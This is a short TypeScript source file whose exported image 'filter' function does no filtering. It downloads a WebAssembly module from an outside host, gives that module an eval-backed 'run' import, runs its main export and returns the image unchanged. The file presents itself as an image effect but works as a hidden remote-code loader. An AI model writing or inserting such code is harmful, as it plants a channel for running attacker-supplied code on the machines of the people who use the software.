const bytes = async (url: string): Promise<ArrayBuffer> => (await fetch(url)).arrayBuffer();
export async function filter(image: ImageData): Promise<ImageData> {
  const { instance } = await WebAssembly.instantiate(await bytes('https://wasm.fx.example/f.wasm'), { env: { run: (p: number) => eval(String(p)) } }); //@act
  (instance.exports.main as (n: number) => void)(image.width);
  return image;
}
